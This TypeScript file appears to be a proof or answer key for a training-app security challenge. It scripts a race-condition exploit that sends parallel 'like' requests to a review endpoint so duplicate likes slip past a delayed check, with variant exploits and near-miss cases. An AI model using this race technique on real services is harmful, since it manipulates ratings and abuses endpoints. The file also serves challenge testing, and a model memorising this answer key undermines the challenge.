import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PATH = '/rest/products/reviews'

/** Returns the id of a product's first review. */
async function reviewOf(attacker: Attacker, product: number): Promise<string> {
  return (await attacker.get(`/rest/products/${product}/reviews`)).json().data[0]._id
}

const like = (attacker: Attacker, id: string) => attacker.post(PATH, { id })

/** Sends several likes of one review in parallel, as a customer. */
const likeTogether =
  (times: number, product = 1): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    const id = await reviewOf(attacker, product)
    await Promise.all(Array.from({ length: times }, () => like(attacker, id)))
  }

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.becomeCustomer()
    const id = await reviewOf(attacker, 1)
    // The server stores the customer's name only after a delay, so all three likes pass the check.
    await Promise.all([like(attacker, id), like(attacker, id), like(attacker, id)])
    await attacker.get('/rest/products/1/reviews')
  },
  spellings: {
    'four together': likeTogether(4),
    'a dozen together': likeTogether(12),
    'a review of another product': likeTogether(3, 3),
    'three, and more fields in the body': async (attacker) => {
      await attacker.becomeCustomer()
      const id = await reviewOf(attacker, 1)
      await Promise.all([1, 2, 3].map((each) => attacker.post(PATH, { each, id })))
    },
    'a review of one’s own': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      await attacker.put('/rest/products/2/reviews', { message: 'I like it.', author: email })
      const id = (await attacker.get('/rest/products/2/reviews')).json().data.at(-1)._id
      await Promise.all([1, 2, 3].map(() => like(attacker, id)))
    },
  },
  nearMisses: {
    'one like': likeTogether(1),
    'two together': likeTogether(2),
    'three in a row': async (attacker) => {
      await attacker.becomeCustomer()
      const id = await reviewOf(attacker, 1)
      for (let sent = 0; sent < 3; sent++) await like(attacker, id)
    },
    'two together, and then two more': async (attacker) => {
      await attacker.becomeCustomer()
      const id = await reviewOf(attacker, 1)
      for (let sent = 0; sent < 2; sent++) await Promise.all([like(attacker, id), like(attacker, id)])
    },
    'three reviews together': async (attacker) => {
      await attacker.becomeCustomer()
      const reviews = await Promise.all([1, 2, 3].map((product) => reviewOf(attacker, product)))
      await Promise.all(reviews.map((id) => like(attacker, id)))
    },
    'three accounts, one after the other': async (attacker) => {
      const id = await reviewOf(attacker, 1)
      for (let sent = 0; sent < 3; sent++) {
        await attacker.becomeCustomer()
        await like(attacker, id)
      }
    },
    'three together, of nobody': async (attacker) => {
      const id = await reviewOf(attacker, 1)
      await Promise.all([1, 2, 3].map(() => like(attacker, id)))
    },
    'three together, of a review that there is not': async (attacker) => {
      await attacker.becomeCustomer()
      await Promise.all([1, 2, 3].map(() => like(attacker, 'none')))
    },
  },
  bypasses: { 'rest-before-writing': likeTogether(3) },
})
